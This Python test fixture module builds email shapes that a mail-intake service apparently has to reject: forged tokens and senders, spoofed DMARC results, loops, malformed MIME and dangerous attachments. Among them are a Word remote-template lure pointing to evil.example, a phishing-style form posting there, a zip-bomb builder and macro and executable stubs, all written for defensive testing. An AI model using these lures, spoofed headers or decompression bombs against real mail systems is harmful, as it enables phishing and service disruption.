"""Shapes that must be stopped: forged, looped and repeated, broken, and files that are not taken."""

from collections.abc import Callable, Mapping
from dataclasses import replace

from domain.tokens import message_id
from tests.postbox import clients as by
from tests.postbox import systems as machine
from tests.postbox.clients import Reply, results
from tests.postbox.pieces import (
    DOMAIN,
    OCTETS,
    OTHER_KEYS,
    SAID,
    SEEN,
    VIRUS,
    Attached,
    file_part,
    form,
    letter_id,
    mail,
    multipart,
    nil,
    packed,
    part,
    pdf,
    reply_to,
    text_part,
    token,
    word_with,
)

Shapes = Mapping[str, Callable[[], bytes]]

DONE = Reply(attached=(form(),))
PRINTED = Reply(attached=(pdf(),))
ODT = "application/vnd.oasis.opendocument.text"
FORGED: Mapping[str, str] = {
    "id": message_id(token(), "request-for-information/police", "k1.aaaaaaaaaaaaaaaa", DOMAIN),
    "address": reply_to(token(), OTHER_KEYS),
}
FILES: Mapping[str, bytes] = {
    "open-document": packed(
        {"mimetype": ODT.encode(), "META-INF/manifest.xml": b"<manifest/>", "content.xml": b"<a/>"}
    ),
    "open-document-sealed": packed(
        {"mimetype": ODT.encode(), "META-INF/manifest.xml": b"<manifest:encryption-data/>"}
    ),
    "macros": word_with({"word/vbaProject.bin": b"macros"}),
    "macro-type": word_with(
        {}, b'<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    ),
    "embedded": word_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "remote-template": word_with(
        {
            "word/_rels/settings.xml.rels": b'<Relationship Type="http://schemas.example/attachedTemplate" '
            b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
        }
    ),
    "archive": packed({"return.docx": b"a return"}),
    "old-word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "outlook-item": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + "__substg1.0_0037001F".encode("utf-16-le")
    + bytes(600),
    "sealed-pdf": pdf(b"5 0 obj<</Filter/Standard/V 5>>endobj\ntrailer<</Encrypt 5 0 R>>\n").content,
    "program": b"MZ\x90\0\x03\0\0\0",
    "page": b"<html><body><form action='https://evil.example'></form></body></html>",
}


def bomb() -> Attached:
    """A small package that unpacks to 101 MiB; it takes a while to pack."""
    large = packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": bytes(101 * 1024 * 1024)})
    return Attached("return.docx", OCTETS, large)


def attaching(name: str, kind: str, content: bytes) -> Callable[[], bytes]:
    """An ordinary reply with one file."""
    return lambda: by.outlook(replace(DONE, attached=(Attached(name, kind, content),)))


def locked(archive: bytes) -> bytes:
    """A zip file with the mark of a password on every entry (APPNOTE, 4.4.4)."""
    return archive.replace(b"PK\x03\x04\x14\0\0", b"PK\x03\x04\x14\0\1").replace(
        b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\1"
    )


def without(raw: bytes, name: str) -> bytes:
    """A mail without its first header of that name, however folded."""
    start = raw.index(f"{name}:".encode())
    end = raw.index(b"\r\n", start)
    while raw[end + 2 : end + 3] in {b"\t", b" "}:
        end = raw.index(b"\r\n", end + 2)
    return raw[:start] + raw[end + 2 :]


def with_results(*values: str, reply: Reply = PRINTED) -> bytes:
    """A mail with other results of authentication than an honest one has."""
    kept = without(by.simple(reply), "Authentication-Results")
    return b"".join(f"Authentication-Results: {value}\r\n".encode() for value in values) + kept


def dealt_with() -> bytes:
    """The mail that the house has dealt with."""
    return by.whole(Reply(identifier=SEEN), part([("Content-Type", "text/plain")], SAID))


FILES_REFUSED: Shapes = {
    "file-program": attaching("return.exe", OCTETS, FILES["program"]),
    "file-program-called-pdf": attaching("return.pdf", "application/pdf", FILES["program"]),
    "file-script": attaching("return.js", "text/plain", b"WScript.Echo(1)\n"),
    "file-shell-script": attaching("return", "text/plain", b"#!/bin/sh\necho\n"),
    "file-web-page": attaching("return.html", "text/html", FILES["page"]),
    "file-macros": attaching("return.docm", OCTETS, FILES["macros"]),
    "file-macros-called-docx": attaching("return.docx", OCTETS, FILES["macro-type"]),
    "file-embedded-object": attaching("return.docx", OCTETS, FILES["embedded"]),
    "file-remote-template": attaching("return.docx", OCTETS, FILES["remote-template"]),
    "file-old-word": attaching("return.doc", "application/msword", FILES["old-word"]),
    "file-rich-text-object": attaching("return.rtf", "application/rtf", b"{\\rtf1{\\object\\objdata 01}}"),
    "file-zip": attaching("return.zip", "application/zip", FILES["archive"]),
    "file-zip-bomb": lambda: by.outlook(replace(DONE, attached=(bomb(),))),
    "file-7z": attaching("return.7z", OCTETS, b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(64)),
    "file-outlook-item": attaching("item.msg", "application/vnd.ms-outlook", FILES["outlook-item"]),
    "file-unknown": attaching("return.xyz", OCTETS, b"\x01\x02\x03\x04\x05"),
    "file-infected": attaching("return.txt", "text/plain", VIRUS),
    "file-sealed-pdf": attaching("return.pdf", "application/pdf", FILES["sealed-pdf"]),
    "file-sealed-odt": attaching("return.odt", ODT, FILES["open-document-sealed"]),
    "file-sealed-zip": attaching("return.zip", "application/zip", locked(FILES["archive"])),
    "file-truncated-docx": attaching("return.docx", OCTETS, form().content[:4000]),
    "file-good-beside-bad": lambda: by.outlook(
        replace(DONE, attached=(form(), Attached("x.exe", OCTETS, FILES["program"])))
    ),
    "form-of-another-case": lambda: by.outlook(replace(DONE, attached=(form(reference="RR-2026-08"),))),
    "form-of-another-agency": lambda: by.outlook(replace(DONE, attached=(form(key="icb"),))),
    "mail-within-a-mail": lambda: by.whole(
        Reply(), multipart("mixed", text_part("See the mail."), forwarded(by.outlook(DONE)), boundary="fwd")
    ),
}


def forwarded(raw: bytes) -> bytes:
    """A whole mail as a part of another."""
    return part([("Content-Type", "message/rfc822")], raw.replace(b"\r\n", b"\n"))


FORGED_SHAPES: Shapes = {
    "forged-token-in-address": lambda: by.outlook(replace(PRINTED, to=FORGED["address"], answers="")),
    "forged-token-in-references": lambda: by.outlook(
        replace(PRINTED, to="rapid-review@nscp.example", answers=FORGED["id"])
    ),
    "token-of-another-agency": lambda: by.outlook(replace(PRINTED, to=reply_to(token("icb")))),
    "token-of-a-lead-used-by-agency": lambda: by.outlook(replace(PRINTED, to=reply_to(token(role="lead")))),
    "two-tokens": lambda: by.outlook(
        replace(PRINTED, more=(("Cc", f"{reply_to(token(reference='RR-2026-08'))}"),))
    ),
    "token-altered": lambda: by.outlook(
        replace(PRINTED, to=reply_to(token()).replace("2026-07", "2026-08"), answers="")
    ),
    "no-token": lambda: by.outlook(replace(PRINTED, to="rapid-review@nscp.example", answers="")),
    "no-token-but-subject": lambda: by.gmail(
        replace(PRINTED, to="rapid-review@nscp.example", answers="<1@x.example>")
    ),
    "token-of-no-agency-we-know": lambda: by.outlook(replace(PRINTED, to=reply_to(token("fire-service")))),
    "sender-stranger": lambda: by.outlook(replace(DONE, sender="reviews@stranger.example")),
    "sender-colleague-not-listed": lambda: by.outlook(replace(DONE, sender="colleague@police.example")),
    "sender-named-like-an-address": lambda: by.outlook(
        replace(DONE, sender="someone@stranger.example", name='"reviews@police.example"')
    ),
    "sender-at-our-reply-domain": lambda: by.outlook(replace(DONE, sender=f"someone@{DOMAIN}")),
    "sender-lookalike-domain": lambda: by.outlook(replace(DONE, sender="reviews@po1ice.example")),
    "sender-twice": lambda: by.simple(
        replace(PRINTED, more=(("From", "Someone Else <someone@stranger.example>"),))
    ),
    "sender-two-in-one": lambda: by.simple(PRINTED).replace(
        b"From: Police Review Desk <reviews@police.example>",
        b"From: reviews@police.example, someone@stranger.example",
    ),
    "sender-missing": lambda: without(by.simple(PRINTED), "From"),
    "sender-group": lambda: by.simple(PRINTED).replace(
        b"From: Police Review Desk <reviews@police.example>", b"From: undisclosed:;"
    ),
    "dmarc-absent": with_results,
    "dmarc-fail": lambda: with_results(results("police.example", "fail")),
    "dmarc-none": lambda: with_results(results("police.example", "none")),
    "dmarc-of-another-server": lambda: with_results(results("police.example", server="mx.elsewhere.example")),
    "dmarc-forged-below-ours": lambda: with_results(
        results("police.example", "fail"), results("police.example")
    ),
    "dmarc-of-another-domain": lambda: with_results(results("stranger.example")),
    "dmarc-name-behind-a-control-character": lambda: with_results(
        "\x1fmx.nscp.example; dmarc=pass header.from=police.example"
    ),
    "dmarc-in-a-comment": lambda: with_results(
        "mx.nscp.example; spf=pass (dmarc=pass header.from=police.example)"
    ),
    "dmarc-both-pass-and-fail": lambda: with_results(
        "mx.nscp.example; dmarc=fail header.from=police.example; dmarc=pass header.from=police.example"
    ),
    "dmarc-only-spf-and-dkim": lambda: with_results(
        "mx.nscp.example; spf=pass smtp.mailfrom=police.example; dkim=pass header.d=police.example"
    ),
    "dmarc-broken-results": lambda: with_results('mx.nscp.example; dmarc=pass header.from="police.example'),
    "dmarc-in-capitals": lambda: with_results("mx.nscp.example; DMARC=Pass header.From=Police.Example"),
    "dmarc-exchange-pass": lambda: with_results(
        "mx.nscp.example; spf=pass (sender IP is 192.0.2.10)\r\n smtp.mailfrom=police.example; dkim=pass "
        "(signature was verified)\r\n header.d=police.example;dmarc=pass action=none\r\n "
        "header.from=police.example;compauth=pass reason=100"
    ),
    "dmarc-exchange-names-nobody": lambda: with_results(
        "spf=pass (sender IP is 192.0.2.10)\r\n smtp.mailfrom=police.example; dkim=pass (signature was "
        "verified)\r\n header.d=police.example;dmarc=pass action=none\r\n "
        "header.from=police.example;compauth=pass reason=100"
    ),
    "list-that-rewrites-sender": lambda: by.simple(
        replace(PRINTED, sender="reviews@lists.police.example", name="Police Review Desk via Reviews")
    ),
    "nil-from-a-stranger": lambda: by.outlook(
        replace(DONE, attached=(nil(),), sender="reviews@stranger.example")
    ),
    "lead-forged-from": lambda: with_results(
        results("police.example", "fail"),
        reply=Reply(
            text="I confirm.", sender="strategic-lead@police.example", to=reply_to(token(role="lead"))
        ),
    ),
}

LOOPS: Shapes = {
    "loop-own-letter": lambda: mail(machine.original(), text_part("A letter of ours.")),
    "loop-own-letter-redirected": lambda: by.simple(
        replace(DONE, more=(("X-Rapid-Review-Letter", "reminder/1/police"),))
    ),
    "loop-from-our-address": lambda: by.simple(replace(DONE, sender="rapid-review@nscp.example")),
    "loop-from-our-reply-address": lambda: by.simple(replace(DONE, sender=reply_to(token()))),
    "loop-from-our-mailbox": lambda: by.simple(replace(DONE, sender=f"RFI@{DOMAIN}")),
    "loop-own-message-id": lambda: by.simple(replace(DONE, identifier=letter_id(token()))),
    "loop-many-hops": lambda: b"Received: from a by b; x\r\n" * 60 + by.simple(DONE),
    "duplicate-dealt-with": dealt_with,
    "duplicate-by-another-way": lambda: b"Received: from a by b; x\r\n" + dealt_with(),
    "id-used-by-the-sender": lambda: by.outlook(replace(PRINTED, identifier=SEEN)),
    "id-used-without-a-token": lambda: by.gmail(
        replace(PRINTED, identifier=SEEN, to="rapid-review@nscp.example", answers="")
    ),
    "id-used-by-a-stranger": lambda: by.simple(
        replace(DONE, identifier=SEEN, sender="someone@stranger.example")
    ),
}

MALFORMED: Shapes = {
    "broken-empty": lambda: b"",
    "broken-not-a-mail": lambda: bytes(range(256)) * 8,
    "broken-headers-only": lambda: by.simple(Reply()).split(b"\r\n\r\n")[0] + b"\r\n",
    "broken-no-end-of-parts": lambda: by.outlook(PRINTED).rsplit(b"--_005_outlook_--", 1)[0],
    "broken-boundary-missing": lambda: by.simple(PRINTED).replace(b'boundary="simple"', b""),
    "broken-base64": lambda: by.simple(PRINTED).replace(b"JVBERi0", b"J*V=BERi0"),
    "broken-header-line": lambda: b"this is no header\r\n" + by.simple(PRINTED),
    "broken-bare-returns": lambda: by.simple(
        replace(PRINTED, more=(("X-Note", "a\rFrom: reviews@police.example"),))
    ),
    "broken-line-ends": lambda: by.simple(PRINTED).replace(b"\r\n", b"\n"),
    "broken-charset": lambda: by.whole(
        Reply(), part([("Content-Type", 'text/plain; charset="no-such-charset"')], b"Thanks, will do.\n")
    ),
    "odd-page-break": lambda: by.whole(
        Reply(), text_part("<html><body>Thanks.<br>\fWill do.</body></html>", kind="html")
    ),
    "odd-charset-utf-16": lambda: by.whole(
        Reply(), text_part("Thanks, will do.", charset="utf-16", encoding="base64")
    ),
    "odd-charset-windows": lambda: by.whole(
        Reply(), part([("Content-Type", "text/plain")], b"Thanks \x96 we\x92ll return it.\n")
    ),
    "odd-encoded-names": lambda: by.simple(
        replace(
            PRINTED, name="=?utf-8?B?UG9saWNlIFJldmlldyBEZXNr?=", subject="=?utf-8?Q?RE=3A_=5BSECURE=5D?="
        )
    ),
    "odd-raw-8-bit-headers": lambda: by.simple(replace(PRINTED, subject="RE: caf\udce9")),
    "odd-folded-headers": lambda: by.simple(PRINTED).replace(b"From: Police", b"From:\r\n Police\r\n\t"),
    "odd-two-message-ids": lambda: by.simple(
        replace(PRINTED, more=(("Message-ID", "<second@police.example>"),))
    ),
    "odd-two-subjects": lambda: by.simple(replace(PRINTED, more=(("Subject", "Another"),))),
    "odd-date": lambda: by.simple(replace(PRINTED, more=(("Date", "yesterday"),))),
    "huge-header": lambda: by.simple(replace(PRINTED, more=(("X-Padding", "x" * 20_000),))),
    "huge-references": lambda: by.simple(
        replace(PRINTED, answers=" ".join([letter_id(token()), *(f"<{n}@x.example>" for n in range(300))]))
    ),
    "many-headers": lambda: (
        b"".join(b"X-Padding-%d: %s\r\n" % (n, b"x" * 900) for n in range(300)) + by.simple(DONE)
    ),
    "many-parts": lambda: by.whole(
        Reply(), multipart("mixed", *(file_part(pdf()) for _ in range(500)), boundary="many")
    ),
    "many-layers": lambda: by.whole(Reply(), layered(300)),
    "many-recipients": lambda: by.simple(
        replace(PRINTED, more=(("Cc", ", ".join(f"desk{n}@police.example" for n in range(300))),))
    ),
}


def layered(depth: int) -> bytes:
    """Parts within parts."""
    content = text_part("Within.")
    for layer in range(depth):
        content = multipart("mixed", content, boundary=f"layer-{layer}-")
    return content


BROKEN: Shapes = {**FILES_REFUSED, **FORGED_SHAPES, **LOOPS, **MALFORMED}
